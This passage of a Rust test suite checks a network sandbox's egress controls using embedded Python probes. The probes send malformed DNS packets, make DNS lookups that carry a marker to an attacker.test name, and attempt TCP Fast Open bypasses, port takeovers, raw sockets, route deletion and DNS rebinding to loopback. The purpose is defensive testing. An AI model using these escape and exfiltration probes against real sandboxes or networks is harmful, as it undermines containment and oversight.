out('tcp-bytewise', 'ANSWER', 'rcode=%d' % (reply[5] & 15) if len(reply) > 5 else 'short')
idle = [socket.create_connection(('192.0.2.53', 53), timeout=5) for _ in range(600)]
out('idle-tcp', len(idle))

# While they idle, UDP questions and other connections are served. A half-closed connection
# to a port a rule names: what was sent before the half-close comes back, then the end of the
# stream.
run('after', ['dig', '+short', '+time=3', '+tries=1', 'ok%s.wild.test' % M])
run('v6-server', ['dig', '@2001:db8::53', '+short', '+time=3', '+tries=1', 'AAAA', 'ok6%s.wild.test' % M])
run('v6-denied', ['dig', '@2001:db8::53', '+time=3', '+tries=1', 'v6%s.attacker.test' % M])
s = socket.create_connection(('allowed.test', 22), timeout=10)
s.sendall(b'half-%s\n' % M.encode())
s.shutdown(socket.SHUT_WR)
out('half-close', recv_until(s, lambda d: False).decode(errors='replace'))

# Once they are closed, DNS over TCP answers again.
for c in idle:
    c.close()
run('after-tcp', ['dig', '+short', '+tcp', '+time=3', '+tries=1', 'okt%s.wild.test' % M])

# TCP Fast Open connects in sendto(2), without connect(2): the listener's checks still apply.
def fastopen(name, host, port, payload):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.sendto(payload, socket.MSG_FASTOPEN, (socket.gethostbyname(host), port))
        s.settimeout(5)
        out(name, 'SENT', recv_all(s).decode(errors='replace')[:200])
    except Exception as e:
        out(name, 'FAILED', e)
fastopen('tfo-allowed', 'allowed.test', 22, b'tfo-%s\n' % M.encode())
fastopen('tfo-literal', '192.0.2.11', 80, http('other.test', '/hello?m=%s-tfo' % M, 'other.test'))
fastopen('tfo-port', 'allowed.test', 2323, b'tfo-port-%s' % M.encode())

# A captured port can't be taken over, for any address (the control: a port no rule covers).
for name, family, addr, port in (('bind-any6', socket.AF_INET6, '::', 8443), ('bind-any4', socket.AF_INET, '0.0.0.0', 8443),
                                 ('bind-fake', socket.AF_INET, '198.18.0.1', 8443), ('bind-literal', socket.AF_INET, '192.0.2.11', 8443),
                                 ('bind-other-port', socket.AF_INET, '192.0.2.11', 8444)):
    b = socket.socket(family)
    b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    b.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    try:
        b.bind((addr, port))
        b.listen()
        out(name, 'BOUND')
    except OSError as e:
        out(name, 'REFUSED', e)

# The way out cannot be changed: no raw or packet sockets, no route changes.
for name, args in (('raw', (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
                   ('packet', (socket.AF_PACKET, socket.SOCK_RAW, 0x0300))):
    try:
        socket.socket(*args)
        out(name, 'OPENED')
    except PermissionError as e:
        out(name, 'REFUSED', e)
run('route-del', ['ip', 'route', 'del', 'local', '0.0.0.0/0', 'table', 'local'])
run('route-add', ['ip', 'route', 'add', '192.0.2.0/24', 'dev', 'lo'])
run('routes', ['ip', 'route', 'show', 'table', 'local'])
"#;

/// Hostile bytes to the sandbox's resolver (an empty datagram, garbage, a response, a
/// compression loop, no question, 65535 questions, a binary label, a name of 200 bytes, a TCP
/// length never sent whole, a question one byte at a time, 600 idle TCP connections) get a
/// refusal or silence, never reach the lab's resolver, and leave the resolver answering, also
/// at an IPv6 address
/// (UDP while the idle connections are open, TCP once they are closed). A half-closed
/// connection to a named port delivers its data and then the end of the stream, while 600
/// DNS connections idle. TCP Fast Open (a connection made by sendto(2), not connect(2)) works
/// to a named port and reaches nothing elsewhere. No listener of the sandbox can take a
/// captured port, on any address (control: another port binds). Raw and packet sockets and route changes are refused, and the local default route is
/// still in place. Control: the allowed names reach the lab's resolver.
#[test]
fn hostile_dns_and_a_fixed_way_out() {
    each_identity("hostile", |lab, env, m| {
        let args =
            ["--allow-host", "allowed.test:22", "--allow-host", "*.wild.test", "--allow-host", "other.test:8443"];
        let code = format!("{PY_DIRECT}\n{PY_HOSTILE}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        for name in ["empty", "garbage", "response", "pointer-loop", "many-questions"] {
            run.expect(name, &["SILENT"]);
        }
        run.expect("no-question", &["ANSWER", "rcode=1"]);
        for name in ["binary-label", "txt", "long-name", "tcp-bytewise"] {
            run.expect(name, &["ANSWER", "rcode=3"]);
        }
        let secret = format!("{m}.attacker.test");
        run.check(lab.queries_with(&secret).is_empty(), &format!("the lab saw {:?}", lab.queries_with(&secret)));
        run.event("net.deny", &[("proto", "dns"), ("host", &format!("bh{secret}")), ("reason", "not-allowed")]);
        run.expect("idle-tcp", &["600"]);
        run.expect("after", &["rc=0", "198.18."]);
        run.expect("v6-server", &["rc=0", "fd72:696e:6766::"]);
        run.expect("v6-denied", &["rc=0", "status: NXDOMAIN", "SERVER: 2001:db8::53#53"]);
        run.expect("after-tcp", &["rc=0", "198.18."]);
        let allowed = format!("okt{m}.wild.test");
        run.check(lab.queries_with(&allowed).iter().any(|q| q.name == allowed), "control: no lookup reached the lab");

        run.expect("half-close", &["SSH-2.0-ringfence-lab", &format!("half-{m}")]);
        run.check(!lab.lines_with(&format!("half-{m}")).is_empty(), "the line server saw nothing");
        run.expect("tfo-allowed", &["SENT", &format!("tfo-{m}")]);
        run.expect_not("tfo-literal", &["hello from"]);
        run.expect_not("tfo-port", &["SENT tfo-port"]);
        run.check(lab.requests_with(&format!("{m}-tfo")).is_empty(), "a Fast Open request reached a server");
        run.event("net.deny", &[("proto", "tcp"), ("host", "192.0.2.11"), ("port", "80"), ("reason", "not-allowed")]);
        for name in ["bind-any6", "bind-any4", "bind-fake", "bind-literal"] {
            run.expect(name, &["REFUSED", "Address already in use"]);
        }
        run.expect("bind-other-port", &["BOUND"]);
        run.expect("raw", &["REFUSED"]);
        run.expect("packet", &["REFUSED"]);
        run.expect_not("route-del", &["rc=0"]);
        run.expect_not("route-add", &["rc=0"]);
        run.expect("routes", &["rc=0", "local default dev lo"]);
    });
}

const PY_REBIND: &str = r#"
name = 'r%s.rebind.test' % M
addr = socket.getaddrinfo(name, 80, socket.AF_INET)[0][4][0]
out('fake', addr)
for i in range(6):
    raw_tcp('rebind-%d' % i, addr, 80, http(name, '/hello?m=%s-rebind' % M, name))
"#;

/// A name that rebinds to loopback between lookups (the lab's resolver alternates its answer,
/// with a TTL of 0) gets one fake address; each connection to it is resolved again and the
/// address guard refuses the loopback answers, so nothing reaches H's own listeners, while the
/// other answers reach the lab (the control that the connections were made at all).
#[test]
fn rebinding_behind_a_fake_address_never_reaches_loopback() {
    each_identity("rebindt", |lab, env, m| {
        let args = ["--allow-host", "*.rebind.test", "--resolver", "192.0.2.53"];
        let code = format!("{PY_DIRECT}\n{PY_REBIND}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        run.expect("fake", &["198.18."]);
        let got: Vec<String> = (0..6).map(|i| run.get(&format!("rebind-{i}")).to_string()).collect();
        run.check(
            got.iter().any(|g| g.contains("hello from 192.0.2.10")),
            &format!("no answer reached the lab: {got:?}"),
        );
        run.check(got.iter().all(|g| !g.contains("hello from 127.")), &format!("loopback answered: {got:?}"));
        let seen = lab.requests_with(&format!("{m}-rebind"));
        run.check(seen.iter().all(|r| r.side == Side::Internet), &format!("H's listeners saw {seen:?}"));
        run.denied(&format!("r{m}.rebind.test"), "address-guard");
    });
}
